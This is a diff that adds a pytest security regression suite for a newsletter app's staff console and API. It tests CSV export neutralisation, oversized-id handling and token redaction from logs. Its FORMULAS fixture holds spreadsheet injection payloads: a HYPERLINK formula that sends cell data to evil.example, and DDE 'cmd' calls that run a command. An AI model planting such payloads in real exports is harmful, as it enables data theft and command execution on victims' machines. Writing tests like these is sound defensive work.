@@ -1,0 +1,130 @@
+"""A hostile review of the staff console and the staff API (issues 13 and 14), over real HTTP
+against one real ``cadence web`` (JSON logs on, as in production): the findings that were fixed,
+each pinned by the request that showed it.
+
+- CSV export: a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a
+  formula to Excel and LibreOffice (OWASP "CSV Injection"); the export neutralises it.
+- Ids and page numbers past the database's integer range were a 500 (an OverflowError from the
+  driver); they are now a 404 page, or a 422 in the API.
+- A setup link's token reached the JSON log when its form failed the CSRF check (a form left
+  open longer than the CSRF token lives, while the link itself is still good for 72 hours).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterator
+from datetime import UTC, datetime
+
+import httpx
+import pytest
+
+from cadence.db.models import Subscriber
+from cadence.db.session import transaction
+from cadence.operations.staff_access import create_token
+from tests.support.console import new_user, session_client
+from tests.support.smtpd import SmtpSink
+from tests.support.web import WebServer
+
+T0 = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
+FORMULAS = {
+    "first_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "city": "+1+cmd|' /C calc'!A0",
+    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "score": "-2+3",
+    "tabbed": "\t=1+1",
+}
+
+
+@pytest.fixture(scope="module")
+def web(tmp_path_factory: pytest.TempPathFactory, web_sink: SmtpSink) -> Iterator[WebServer]:
+    extra = {"CADENCE_LOG_FORMAT": "json"}
+    with WebServer(tmp_path_factory.mktemp("console-security"), web_sink, extra_env=extra, log_level="info") as server:
+        with transaction(server.settings.database_url) as session:
+            session.add(
+                Subscriber(
+                    email="=evil@example.com",
+                    email_key="=evil@example.com",
+                    first_name=FORMULAS["first_name"],
+                    attributes={k: v for k, v in FORMULAS.items() if k != "first_name"} | {"=formula_key": "x"},
+                    timezone="America/New_York",
+                    status="active",
+                    source="test",
+                    created_at=T0,
+                    updated_at=T0,
+                    confirmed_at=T0,
+                    soft_bounces=0,
+                    consent={"version": "2026-11"},
+                )
+            )
+        yield server
+
+
+def _token(web: WebServer, name: str, scope: str = "read") -> str:
+    with transaction(web.settings.database_url) as session:
+        return create_token(session, name, scope, actor="cli:test", now=web.clock.now())[0]
+
+
+def test_the_csv_export_neutralises_every_cell_a_spreadsheet_would_run(web: WebServer) -> None:
+    token = _token(web, "exporter")
+    answer = httpx.get(
+        web.url("/api/staff/subscribers/export"),
+        headers={"Authorization": f"Bearer {token}", **web.from_ip()},
+        timeout=10,
+    )
+    assert answer.status_code == 200, answer.text
+    rows = list(csv.reader(io.StringIO(answer.text)))
+    cells = [cell for row in rows for cell in row]
+    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+    # Neutralised, not lost: a leading apostrophe, as OWASP advises, and the value otherwise intact.
+    assert "'" + FORMULAS["first_name"] in cells and "'=evil@example.com" in cells
+    assert "'=formula_key" in rows[0]
+    # The JSON lines export is data for programs, not a spreadsheet: unchanged.
+    lines = httpx.get(
+        web.url("/api/staff/subscribers/export?format=json"),
+        headers={"Authorization": f"Bearer {token}", **web.from_ip()},
+        timeout=10,
+    )
+    assert FORMULAS["first_name"].replace('"', '\\"') in lines.text
+
+
+def test_ids_and_pages_past_the_integer_range_are_not_a_server_error(web: WebServer) -> None:
+    huge = "9" * 25
+    admin = session_client(web, "ada.admin@clinic.example", "admin")
+    for path in (
+        f"/admin/subscribers/{huge}",
+        f"/admin/subscribers?page_number={huge}",
+        f"/admin/audit?page_number={huge}",
+        "/admin/subscribers/99999999999",
+    ):
+        answer = admin.get(path)
+        assert answer.status_code == 404, (path, answer.status_code)
+    token = re.search(r'name="csrf_token" value="([^"]+)"', admin.get("/admin/users").text)
+    assert token is not None
+    for action in ("disable", "reset"):
+        answer = admin.post(f"/admin/users/{huge}/{action}", data={"csrf_token": token.group(1)})
+        assert answer.status_code == 404, (action, answer.status_code)
+    api = httpx.get(
+        web.url(f"/api/staff/subscribers?after={huge}"),
+        headers={"Authorization": f"Bearer {_token(web, 'pager')}", **web.from_ip()},
+        timeout=10,
+    )
+    assert api.status_code == 422
+    assert "Exception in ASGI application" not in web.log()
+
+
+def test_a_setup_link_token_never_reaches_the_log_even_when_its_form_fails(web: WebServer) -> None:
+    setup = new_user(web, "late.larry@clinic.example", "viewer")
+    secret = setup.rsplit("/", 1)[1]
+    client = web.client()
+    assert client.get(setup).status_code == 200
+    # The form left open past the CSRF token's life: refused, and the refusal is logged.
+    stale = client.post(setup, data={"csrf_token": "stale", "password": "x" * 14, "confirm": "x" * 14})
+    assert stale.status_code == 403
+    log = web.log()
+    assert "CSRF check failed" in log
+    assert secret not in log
+    assert client.get(setup).status_code == 200  # and the link still works
